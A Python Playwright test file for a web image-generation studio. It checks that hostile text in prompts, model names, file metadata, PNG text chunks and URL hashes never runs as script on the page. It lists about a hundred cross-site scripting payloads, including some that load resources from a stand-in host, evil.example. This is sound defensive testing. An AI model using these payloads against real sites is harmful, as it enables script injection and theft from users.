"""Strangers' texts stay texts: what stands in prompts, names, metadata and errors never runs as a script of the page.

Counted are calls of a function that the payloads call, dialogs, elements that they would make, and violations of the
page's policy: a payload that became an element would be stopped by the policy, and the policy would say so.
"""

import base64
import io
import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from PIL import Image, PngImagePlugin
from playwright.sync_api import expect
from studio_server import PATIENCE, Server

VECTORS = (
    "<script>hurt()</script>",
    "<img src=x onerror=hurt()>",
    "<svg onload=hurt()>",
    "<svg><script>hurt()</script></svg>",
    "<iframe srcdoc='<script>parent.hurt()</script>'></iframe>",
    "<iframe src=javascript:parent.hurt()></iframe>",
    "<body onload=hurt()>",
    "<input autofocus onfocus=hurt()>",
    "<details open ontoggle=hurt()>",
    "<video><source onerror=hurt()></video>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=hurt()>",
    "<a href=javascript:hurt()>x</a>",
    "<object data=javascript:hurt()></object>",
    "<embed src=javascript:hurt()>",
    "<base href=//evil.example/><script src=a.js></script>",
    "<meta http-equiv=refresh content='0;url=javascript:hurt()'>",
    "<style>@import'//evil.example/a.css';</style>",
    "<form action=javascript:hurt()><button autofocus>x</button></form>",
    "{@html '<img src=x onerror=hurt()>'}",
    "${hurt()}{{constructor.constructor('hurt()')()}}",
)
AROUND = ("{}", "\"'>{}", "</textarea></title>{}", "javascript:hurt()//{}", "\u202e{}]]>-->")
PAYLOADS = [form.format(f"{vector} {number}") for form in AROUND for number, vector in enumerate(VECTORS)]
FEW = [PAYLOADS[1], PAYLOADS[20], PAYLOADS[41], PAYLOADS[65], PAYLOADS[98]]  # a vector in each form
assert len(set(PAYLOADS)) == 100

# `harm` is what has run, what was stopped and what was made of a text; `until` waits within the page, which is many
# times faster than asking it from outside
WATCH = """
window.ran = []; window.refused = []
window.hurt = () => window.ran.push(String(new Error().stack))
document.addEventListener('securitypolicyviolation', event => window.refused.push(
    `${event.violatedDirective} ${event.blockedURI} ${event.sample}`))
window.harm = () => [...ran, ...refused, ...[...document.querySelectorAll(`[onerror], [onload], [onfocus], [ontoggle],
    iframe, object, embed, base, math, img[src="x"], video, meta[http-equiv=refresh], body style, body script,
    [href^="javascript:"], [action^="javascript:"]`)].map(each => each.outerHTML)]
window.until = async (test, what) => {
    for (const end = Date.now() + PATIENCE; !test(); await new Promise(go => setTimeout(go, 5)))
        if (Date.now() > end) throw new Error(`${what} was not seen, but ${document.body.innerText.slice(-500)}`)
}
window.alerted = words => [...document.querySelectorAll('[role=alert]')].some(each => each.textContent.includes(words))
""".replace("PATIENCE", str(PATIENCE))


class Watched:
    """A tab whose scripts, dialogs and refusals are counted."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.dialogs: list[str] = []
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        page.context.add_init_script(WATCH)
        page.reload()

    def unharmed(self) -> None:
        """Nothing has run and nothing was made of a text until now."""
        assert self.page.evaluate("harm()") == []
        assert self.dialogs == []

    def go(self, place: str) -> None:
        """Another screen, after the one before was looked over."""
        self.unharmed()
        self.page.evaluate("place => { location.hash = place }", place)


def hostile_home(folder: Path, payloads: list[str]) -> None:
    """LoRAs, control networks, models and styles with these names, the files with them as metadata."""
    import torch
    from safetensors.torch import save_file

    home = folder / "home"
    home.mkdir()
    metadata = {f"ss_{number}": payload for number, payload in enumerate(payloads)}
    for kind in ("lora", "controlnet", "model"):
        save_file({"x": torch.zeros(1)}, home / f"{kind}.safetensors", metadata)
    places = {kind: str(home / f"{kind}.safetensors") for kind in ("lora", "controlnet", "model")}
    aliases = {f"{payload} {kind}": {"place": places[kind], "kind": kind} for payload in payloads for kind in places}
    (home / "models.json").write_text(json.dumps({"aliases": aliases}))
    quoted = ['"' + payload.replace('"', '""') + '"' for payload in payloads]
    (home / "styles.csv").write_text("\n".join(["name,prompt", *(f"{each},{each}" for each in quoted)]))


@pytest.fixture
def hostile(tmp_path: Path, request: pytest.FixtureRequest) -> Iterator[Any]:
    """A server in such a home."""
    hostile_home(tmp_path, request.param)
    made = Server(tmp_path)
    made.start()
    yield made
    made.stop()


def submit(server: Any, page: Any, payloads: list[str]) -> list[str]:
    """A job for each payload, as prompt, as what should not be there and as title; their ids."""
    ids = []
    for number, payload in enumerate(payloads):
        fields = {"prompt": payload, "negative_prompt": payload, "steps": 1, "dialect": "plain"}
        body = {"request": fields, "title": f"{payload} title"[:200]}
        ids.append(post(server, page, body, f"stranger-{number // 50}")["id"])  # 64 jobs of one may wait
    return ids


def post(server: Any, page: Any, job: dict[str, Any], client: str) -> Any:
    """The server's answer to a job; where that is to come back later, to one that comes back when it says."""
    end = time.monotonic() + PATIENCE / 1000
    while True:
        answer = page.request.post(f"{server.address}/sfumato/v1/jobs", data=job, headers={"X-Sfumato-Client": client})
        if answer.status != 429 or time.monotonic() > end:
            assert answer.ok, answer.text()
            return answer.json()
        time.sleep(float(answer.headers["retry-after"]))


def picture_saying(payload: str) -> bytes:
    """A picture whose texts are A1111's, all of them hostile."""
    line = payload.replace("\n", " ")
    texts = PngImagePlugin.PngInfo()
    said = f'{line}\nNegative prompt: {line}\nSteps: 2, Sampler: "{line}", Seed: 1, Size: 64x64, {line[:20]}: "{line}"'
    texts.add_text("parameters", said)
    texts.add_text("Comment", line)
    file = io.BytesIO()
    Image.new("RGB", (64, 64), "navy").save(file, "PNG", pnginfo=texts)
    return file.getvalue()


@pytest.mark.parametrize(
    "hostile",
    [pytest.param(FEW, id="few"), pytest.param(PAYLOADS, id="hundred", marks=pytest.mark.slow)],
    indirect=True,
)
def test_no_text_of_a_stranger_becomes_a_script(hostile: Any, tab: Any, request: pytest.FixtureRequest) -> None:
    payloads = request.node.callspec.params["hostile"]
    page = tab(hostile, "#/models")
    watched = Watched(page)
    jobs = submit(hostile, page, payloads)
    the_names_of_files_and_models(watched, payloads)
    the_words_of_jobs_and_pictures(watched, jobs, payloads)
    what_is_dropped_and_what_is_refused(watched, payloads)
    addresses(watched, payloads, jobs)


def the_names_of_files_and_models(watched: Watched, payloads: list[str]) -> None:
    page = watched.page
    for drawer in ("advanced", "controls", "more", "json"):
        page.evaluate("name => { localStorage['sfumato.' + name] = 'open' }", drawer)
    expect(page.get_by_role("heading", name=f"{payloads[0]} model", exact=True)).to_be_visible()
    expect(page.get_by_text("Missing:").first).to_be_visible()
    watched.go("#/create")
    for number, payload in enumerate(payloads, 1):
        page.locator("#loras").select_option(f"{payload} lora")
        page.locator("#add-control").select_option(f"{payload} controlnet")
        page.locator("#styles").select_option(payload)
        if number % 10 == 0 or number == len(payloads):  # together they would be a form of hundreds of fields
            watched.unharmed()
            page.get_by_role("button", name="Clear", exact=True).click()
    expect(page.locator("#model option")).to_have_count(len(payloads) + 1)


def the_words_of_jobs_and_pictures(watched: Watched, jobs: list[str], payloads: list[str]) -> None:
    page = watched.page
    watched.go("#/queue")
    expect(page.get_by_role("region", name="Ended").get_by_text("Done").first).to_be_visible()
    expect(page.get_by_text("Nothing is waiting")).to_be_visible()
    watched.go("#/history")
    expect(page.locator(".cell .open").first).to_be_visible()
    for job, payload in zip(jobs, payloads, strict=True):
        (picture,) = page.request.get(f"{origin(page)}/sfumato/v1/jobs/{job}").json()["pictures"]
        watched.go(f"#/history/{picture['id']}")
        expect(page.locator("dialog .facts p")).to_have_text(payload)
        page.locator("dialog summary").click()  # the whole request
        watched.unharmed()
    page.get_by_role("dialog", name="Picture").get_by_role("button", name="Close").click()
    page.get_by_label("Search the words").fill(payloads[-1])
    expect(page.get_by_text("1 picture", exact=True)).to_be_visible()
    page.locator(".cell .open").first.click()
    page.get_by_role("dialog").get_by_role("button", name="Reuse").click()
    expect(page.get_by_label("Prompt", exact=True)).to_have_value(payloads[-1])


DROP = """async ([payload, picture, request]) => {
    const dismissed = () => document.querySelectorAll('[aria-label=Dismiss]').forEach(each => each.click())
    const drop = (bytes, type) => {
        const dataTransfer = new DataTransfer()
        dataTransfer.items.add(new File([bytes], payload, { type }))
        const event = new DragEvent('drop', { dataTransfer, bubbles: true, cancelable: true })
        document.querySelector('.create').dispatchEvent(event)
    }
    dismissed()
    drop('no picture', 'text/html')
    await until(() => alerted('is not a picture'), 'that it is no picture')
    drop(Uint8Array.from(atob(picture), each => each.charCodeAt(0)), 'image/png')
    const read = () => document.body.textContent.includes('Settings of') // or, where no tool writes so, a start picture
    await until(() => read() || document.querySelector('img[alt="What to start from"]'), 'what became of the picture')
    dismissed()
    const box = document.querySelector('#json')
    box.value = request
    box.dispatchEvent(new Event('input', { bubbles: true }))
    const use = [...document.querySelectorAll('button')].find(each => each.textContent === 'Use it')
    await until(() => !use.disabled, 'a button to use it')
    use.click()
    await until(() => use.disabled, 'that it was used')
    document.querySelector('form').requestSubmit()
    await until(() => alerted(''), 'what is wrong with it')
    return harm()
}"""


def what_is_dropped_and_what_is_refused(watched: Watched, payloads: list[str]) -> None:
    page = watched.page
    for payload in payloads:
        odd = {"prompt": payload, "sampler": payload, "styles": [payload + "?"], payload: payload}
        picture = base64.b64encode(picture_saying(payload)).decode()
        assert page.evaluate(DROP, [payload, picture, json.dumps(odd)]) == [], payload
    watched.unharmed()
    page.get_by_role("button", name="Clear", exact=True).click()


GO = """async places => {
    for (const place of places) {
        location.hash = place
        await new Promise(go => addEventListener('hashchange', go, { once: true }))
        await new Promise(go => requestAnimationFrame(() => setTimeout(go)))
        if (harm().length) return [place, ...harm()]
    }
    return []
}"""


def addresses(watched: Watched, payloads: list[str], jobs: list[str]) -> None:
    page = watched.page
    for payload in payloads:
        places = [f"#/history/{payload}", f"#/canvas/{payload}", f"#/{payload}"]
        assert page.evaluate(GO, places) == []
    watched.unharmed()
    (picture,) = page.request.get(f"{origin(page)}/sfumato/v1/jobs/{jobs[0]}").json()["pictures"]
    alone = page.context.new_page()
    for path in (f"/sfumato/v1/jobs/{jobs[0]}", picture["file"], "/sfumato/v1/loras", "/sfumato/v1/styles"):
        alone.goto(f"{origin(page)}{path}")  # as a page of its own: JSON and pictures are not pages
        assert alone.evaluate("window.ran") == [], path
    assert watched.dialogs == []


def origin(page: Any) -> str:
    return "/".join(page.url.split("/")[:3])
